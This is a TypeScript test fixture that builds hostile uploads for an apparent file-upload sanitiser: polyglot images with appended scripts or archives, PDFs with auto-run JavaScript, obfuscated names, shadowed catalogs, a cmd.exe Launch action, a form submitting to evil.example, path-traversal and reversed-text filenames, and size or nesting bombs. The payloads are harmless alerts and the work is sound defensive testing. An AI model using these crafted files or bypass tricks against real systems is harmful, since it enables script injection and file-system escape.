/** Files as somebody makes them who means harm, made here, and what becomes of each. None of them stops or hurts another program. */
import { deflateSync } from "node:zlib";
import type { FileCause } from "../../engine/server";
import { packedPdf, pdfParts, writtenPdf } from "./pdfs";
import { jpegSegment, pngPart, writtenJpeg, writtenPng } from "./pictures";

interface HostileFile {
  readonly what: string;
  readonly name?: string;
  readonly bytes: Buffer;
  /** Why it is refused. One that is kept is harmless: `gone` stands in it no more. */
  readonly refused?: FileCause;
  readonly gone?: RegExp;
  /** The name that it is kept with. */
  readonly keptAs?: string;
}

const script = Buffer.from("<script>alert(document.cookie)</script>");
const archive = Buffer.concat([Buffer.from("PK\x03\x04"), script]);
const { catalog, pages, page } = pdfParts;
const acting = (key: string) => catalog.replace(" >>", ` ${key} >>`);
const say = "(app.alert\\(1\\))";
const javaScript = `<< /S /JavaScript /JS ${say} >>`;
const withPage = (key: string) => writtenPdf({ objects: [catalog, pages, page.replace(" >>", ` ${key} >>`)] });
const annotated = (annotation: string) => withPage(`/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]`);
const withObject = (key: string, object: string) => writtenPdf({ objects: [acting(key), pages, page, object] });

/** A second catalog, which a later one replaces in the order of the file and the table of places does not. */
function replacedPdf(): Buffer {
  const text = writtenPdf({ objects: [acting(`/OpenAction ${javaScript}`), pages, page] }).toString("latin1");
  const table = text.indexOf("xref");
  const later = `1 0 obj\n${catalog}\nendobj\n`;
  return Buffer.from(
    text.slice(0, table) + later + text.slice(table).replace(/startxref\n\d+/, `startxref\n${table + later.length}`),
  );
}

/** The table of places leads to a second catalog within the data of the page, where no object seems to stand. */
function hiddenPdf(): Buffer {
  const within = `1 0 obj\n${acting(`/OpenAction ${javaScript}`)}\nendobj`;
  const data = `<< /Length ${within.length} >>\nstream\n${within}\nendstream`;
  const objects = [catalog, pages, page.replace(" >>", " /Contents 4 0 R >>"), data];
  const text = writtenPdf({ objects }).toString("latin1");
  const row = (at: number) => `${String(at).padStart(10, "0")} 00000 n`;
  return Buffer.from(text.replace(row(text.indexOf("1 0 obj")), row(text.lastIndexOf("1 0 obj"))), "latin1");
}

const pictures: readonly HostileFile[] = [
  { what: "a page behind a JPEG", bytes: Buffer.concat([writtenJpeg(), script]), gone: /script/ },
  { what: "a page in the remark of a JPEG", bytes: writtenJpeg({ more: [jpegSegment(0xfe, script)] }), gone: /script/ },
  { what: "an archive behind a PNG", bytes: Buffer.concat([writtenPng(), archive]), gone: /PK/ },
  { what: "a page in the text of a PNG", bytes: writtenPng({ more: [pngPart("tEXt", script)] }), gone: /script/ },
  {
    what: "a page behind the lines of a PNG, in its data",
    bytes: writtenPng({ data: Buffer.concat([deflateSync(Buffer.alloc(41 * 30)), script]) }),
    gone: /script/,
  },
  {
    what: "a JPEG of billions of pixels",
    bytes: writtenJpeg({ width: 65_000, height: 65_000, components: 1 }),
    refused: "pixels",
  },
  {
    what: "a PNG of billions of pixels",
    bytes: writtenPng({ width: 2 ** 31 - 1, height: 2 ** 31 - 1, data: deflateSync(Buffer.alloc(9)) }),
    refused: "pixels",
  },
  { what: "a JPEG cut off", bytes: writtenJpeg().subarray(0, -40), refused: "cut-off" },
  { what: "a drawing with a script", name: "foto.png", bytes: Buffer.from(`<svg>${script}</svg>`), refused: "type" },
  { what: "a page", name: "ktp.jpg", bytes: script, refused: "type" },
  { what: "a GIF that is a program", name: "ktp.jpg", bytes: Buffer.from("GIF89a/*;*/=1;alert(1)"), refused: "type" },
];

const pdfs: readonly HostileFile[] = [
  {
    what: "a script that runs when it opens",
    bytes: writtenPdf({ objects: [acting(`/OpenAction ${javaScript}`), pages, page] }),
  },
  { what: "a script in packed objects", bytes: packedPdf({ objects: [acting(`/OpenAction ${javaScript}`), pages, page] }) },
  {
    what: "a script by a name spelt in numbers",
    bytes: writtenPdf({ objects: [acting(`/Open#41ction << /S /J#61vaScript /#4AS ${say} >>`), pages, page] }),
  },
  { what: "a script named by all", bytes: withObject("/Names << /JavaScript 4 0 R >>", `<< /Names [(a) ${javaScript}] >>`) },
  { what: "a script of a page", bytes: withPage(`/AA << /O ${javaScript} >>`) },
  {
    what: "a script behind another action",
    bytes: withObject("/OpenAction 4 0 R", `<< /S /GoTo /D [3 0 R /Fit] /Next ${javaScript} >>`),
  },
  { what: "a script in an address", bytes: annotated("/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>") },
  { what: "a script of an earlier object with the same number", bytes: replacedPdf() },
  { what: "a program that it starts", bytes: annotated("/Subtype /Link /A << /S /Launch /F (cmd.exe) >>") },
  {
    what: "a file within it",
    bytes: withObject(
      "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (rahasia.exe) /EF << /F 4 0 R >> >>] >> >>",
      "<< /Type /EmbeddedFile /Length 7 >>\nstream\nrahasia\nendstream",
    ),
  },
  { what: "a form of XFA", bytes: writtenPdf({ objects: [acting("/AcroForm << /Fields [] /XFA (evil) >>"), pages, page] }) },
  { what: "a form that it sends", bytes: annotated("/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>") },
  { what: "a film with a program", bytes: annotated("/Subtype /RichMedia /RichMediaContent << >>") },
  { what: "a page before its head", bytes: writtenPdf({ before: `${script}\n` }) },
  { what: "an archive behind its end", bytes: Buffer.concat([writtenPdf(), archive]) },
].map((file) => ({ gone: /alert|JavaScript|\/JS|Launch|cmd|rahasia|XFA|SubmitForm|RichMedia|evil|script|PK/, ...file }));

const names: readonly HostileFile[] = [
  { what: "a way out of the folder", name: "../../../etc/passwd.pdf", bytes: writtenPdf(), keptAs: "passwd.pdf" },
  { what: "a way out of a folder of Windows", name: "..\\..\\autoexec.pdf", bytes: writtenPdf(), keptAs: "autoexec.pdf" },
  { what: "a name that is read backwards", name: "ijazah\u202Efdp.exe", bytes: writtenPdf(), keptAs: "ijazahfdp.exe" },
  { what: "a name of thousands of letters", name: `${"a".repeat(5000)}.pdf`, bytes: writtenPdf(), keptAs: "a".repeat(120) },
];

const others: readonly HostileFile[] = [
  { what: "a PDF beyond every limit", bytes: Buffer.concat([writtenPdf(), Buffer.alloc(6 * 1024 * 1024)]), refused: "size" },
  { what: "a script among the data of a page", bytes: hiddenPdf(), refused: "unchecked" },
  {
    what: "lists within lists",
    bytes: writtenPdf({ objects: [catalog, pages, page, `${"[".repeat(200_000)}${"]".repeat(200_000)}`] }),
    gone: /\[\[\[/,
  },
];

export const hostile: readonly HostileFile[] = [...pictures, ...pdfs, ...names, ...others];
